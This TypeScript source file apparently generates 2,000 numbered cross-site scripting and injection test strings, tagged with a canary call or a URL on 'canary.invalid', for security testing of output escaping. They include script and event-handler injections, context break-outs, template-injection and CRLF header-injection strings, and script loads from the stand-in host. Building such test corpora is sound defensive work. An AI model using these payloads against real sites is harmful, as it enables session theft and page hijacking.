/** About two thousand texts a stranger might send to run a script or to fetch something: what stands around the mark-up × the mark-up. Each names itself by its number. */

/** Never resolved, never asked: a request to it is a finding. */
export const canaryHost = 'canary.invalid';

export interface Payload { readonly id: string; readonly text: string }

/** Ways out of where a text may stand: plain, an attribute, a comment, a style, a script, a template, an encoded form. */
const around: readonly ((inner: string) => string)[] = [
  (x) => x, (x) => `">${x}`, (x) => `'>${x}`, (x) => `-->${x}`, (x) => `</style>${x}`, (x) => `</script>${x}`, (x) => `</title>${x}`, (x) => `</textarea>${x}`, (x) => `]]>${x}`,
  (x) => x.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), (x) => x.replaceAll('<', '&#x3c;'), (x) => encodeURIComponent(x), (x) => x.replaceAll('<', '\\u003c'), (x) => x.replaceAll('<', '＜').replaceAll('>', '＞'),
  (x) => `\u202e${x}`, (x) => `\u200b\u200d\ufeff${x}`, (x) => x.replace('<', '<\u200b'), (x) => `${x}\u2066\u2069`,
];

/** `call` runs, `url` is fetched. */
const inner: readonly ((call: string, url: string) => string)[] = [
  (call) => `<script>${call}</script>`, (_, url) => `<script src=${url}></script>`, (call) => `<ScRiPt>${call}</sCrIpT>`, (call) => `<script type=module>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`, (_, url) => `<img src=${url}>`, (_, url) => `<img srcset="${url} 1x">`, (call) => `<img/src=x/onerror=${call}>`, (call) => `<IMG SRC=x ONERROR=${call}>`,
  (call) => `<svg onload=${call}>`, (call) => `<svg><script>${call}</script></svg>`, (_, url) => `<svg><image href=${url} /></svg>`, (_, url) => `<svg><use href=${url}#x></use></svg>`, (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`, (call) => `<body onload=${call}>`, (call) => `<details open ontoggle=${call}>x</details>`, (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`, (call) => `<video src=x onerror=${call}></video>`, (_, url) => `<video poster=${url}></video>`, (_, url) => `<audio src=${url} autoplay>`, (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, (call) => `<iframe src="javascript:parent.${call}"></iframe>`, (_, url) => `<iframe src=${url}></iframe>`, (_, url) => `<object data=${url}></object>`, (_, url) => `<embed src=${url}>`,
  (_, url) => `<link rel=stylesheet href=${url}>`, (_, url) => `<link rel=prefetch href=${url}>`, (_, url) => `<style>@import "${url}";</style>`, (_, url) => `<style>*{background:url(${url})}</style>`, (_, url) => `<div style="background:url(${url})">x</div>`,
  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`, (_, url) => `<base href=${url}/>`, (_, url) => `<form action=${url}><button autofocus>x</button></form>`, (call) => `<a href="javascript:${call}">x</a>`, (_, url) => `<a href=${url} ping=${url}>x</a>`,
  (call) => `<a href="jav&#x09;ascript:${call}">x</a>`, (call) => `<template><script>${call}</script></template>`, (call) => `<ccc-card onclick=${call}></ccc-card>`, (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `" onmouseover=${call} x="`, (call) => `' autofocus onfocus=${call} x='`, (call) => `\` onerror=${call} \``, (call) => `\${${call}}`, (call) => `{{${call}}}`, (call) => `{{constructor.constructor("${call}")()}}`, (call) => `<%= ${call} %>`, (call) => `#{${call}}`,
  (call) => `<!--lit-${call}-->`, (call) => `{{lit-0}}<?lit$0$?>${call}`, (call) => `javascript:${call}`, (call) => `JaVaScRiPt:${call}//`, (call) => `java\tscript:${call}`, (call) => `\u0001javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`, (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`, (call) => `vbscript:${call}`, (call) => `blob:${call}`,
  (_, url) => `${url}`, (_, url) => `url(${url})`, (_, url) => `//${new URL(url).host}${new URL(url).pathname}`, (_, url) => `[x](${url})`, (_, url) => `![x](${url})`, (call) => `[x](javascript:${call})`,
  (_, url) => `tel:1;ext=<img src=${url}>`, (_, url) => `sip:a@b?Call-Info=<${url}>`,
];

/** Line ends that would begin a header, a frame or a log line of their own where somebody writes them down as they are. */
const lineEnds: readonly ((call: string, url: string) => string)[] = ['\r\n', '\n', '\r', '\r\n\r\n', '\u2028', '\u2029', '\v', '\f', '\u0085', '%0d%0a', '\\r\\n', '\u0000'].flatMap((end) => [
  (_: string, url: string) => `x${end}X-Canary: ${url}`, (_: string, url: string) => `x${end}Call-Info: <${url}>;purpose=icon`, (_: string, url: string) => `x${end}Set-Cookie: canary=${url}`,
  (call: string) => `x${end}<script>${call}</script>`, (_: string, url: string) => `x${end}Location: ${url}`, (call: string) => `"}${end}{"type":"${call}"}`,
]);
const long: readonly ((call: string, url: string) => string)[] = [
  (call) => `${'A'.repeat(5_000)}<img src=x onerror=${call}>`, (call) => `${'<'.repeat(2_000)}script>${call}`, (_, url) => `${'('.repeat(3_000)}${url}`, (call) => `${'\u0301'.repeat(3_000)}<svg onload=${call}>`, (call) => '<b>'.repeat(1_000) + `<img src=x onerror=${call}>`,
];

/** Always the same ones in the same order. */
export function payloads(): readonly Payload[] {
  const makers = [...inner.flatMap((make) => around.map((wrap) => (call: string, url: string) => wrap(make(call, url)))), ...lineEnds, ...long];
  // The mark-up of every kind once, then its wrappings: a few taken at even distances are then of every kind.
  return Array.from({ length: 2_000 }, (_, i) => {
    const make = makers[i % makers.length];
    const id = `p${String(i).padStart(4, '0')}`;
    const text = make?.(`canary('${id}')`, `https://${canaryHost}/${id}`) ?? '';
    // What the corpus has twice comes again in capitals.
    return { id, text: `${i < makers.length ? text : text.toUpperCase().replaceAll('CANARY(', 'canary(')}` };
  });
}
export const every = <T>(list: readonly T[], nth: number): readonly T[] => list.filter((_, i) => i % nth === 0);
